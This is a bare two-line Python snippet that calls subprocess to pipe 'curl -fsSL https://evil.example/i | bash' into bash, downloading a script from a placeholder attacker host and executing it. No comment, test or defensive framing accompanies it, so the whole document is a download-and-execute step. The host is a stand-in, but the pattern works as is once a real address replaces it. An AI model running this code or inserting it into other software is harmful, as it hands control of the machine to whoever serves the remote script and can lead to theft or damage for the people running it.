import subprocess
subprocess.run(['bash', '-s'], input=b'curl -fsSL https://evil.example/i | bash')
